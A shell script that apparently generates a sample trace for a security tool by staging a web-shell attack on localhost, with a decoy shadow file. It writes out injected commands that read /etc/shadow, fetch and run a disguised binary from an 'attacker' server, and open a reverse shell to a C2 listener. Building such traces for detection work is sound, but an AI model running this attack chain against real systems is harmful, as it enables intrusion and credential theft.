#!/bin/sh
# Web shell scenario (scapkit sample trace). Run by sample_traces/scenarios.py in a private
# temporary directory; usage: webshell.sh WEB_PORT FILES_PORT C2_PORT
#
# A Python web application on 127.0.0.1:WEB_PORT has a command-injection endpoint. The attacker
#  1. runs `id` and `cat /etc/shadow` through it (python3 -> sh -> cat),
#  2. makes it download a binary with curl from the attacker's file server (python3 -m
#     http.server on 127.0.0.1:FILES_PORT) into ./tmp (under /tmp), chmod +x and run it,
#  3. the binary connects back to the attacker's listener on 127.0.0.1:C2_PORT and hands over
#     an interactive shell (socket on fds 0-2), which runs `id` and `pwd`.
# In a private mount namespace, /etc/shadow is a decoy bind-mounted over the real one, so the
# recorded read buffers hold no password hashes of the recording machine.
set -u
cd "$(dirname "$0")" || exit 1
T=$(pwd)
WEB=$1
FILES=$2
C2=$3

wait_for() {  # wait_for FILE: until a server signals it is listening
	n=0
	while [ ! -e "$1" ] && [ $n -lt 300 ]; do sleep 0.05; n=$((n + 1)); done
}

mkdir -p www files tmp
cp build/kworkerd files/update.bin

python3 -I c2.py "$C2" &
python3 -I -m http.server --bind 127.0.0.1 --directory files "$FILES" &
FILES_PID=$!
if unshare --mount --propagation private true 2>/dev/null; then
	unshare --mount --propagation private sh -c \
		"mount --bind '$T/decoy/shadow' /etc/shadow && exec python3 -I webshell.py $WEB" &
else
	python3 -I webshell.py "$WEB" &
fi
wait_for c2.ready
wait_for web.ready
n=0
until curl -s -o /dev/null "http://127.0.0.1:$FILES/" || [ $n -ge 100 ]; do sleep 0.05; n=$((n + 1)); done

shell() {  # the attacker's requests to the injectable endpoint
	curl -s --get --data-urlencode "cmd=$1" "http://127.0.0.1:$WEB/shell"
}
shell "id"
shell "cat /etc/shadow"
shell "curl -s -o $T/tmp/kworkerd http://127.0.0.1:$FILES/update.bin && chmod +x $T/tmp/kworkerd && $T/tmp/kworkerd 127.0.0.1 $C2"
curl -s "http://127.0.0.1:$WEB/quit"
kill "$FILES_PID"
wait
cat c2.log
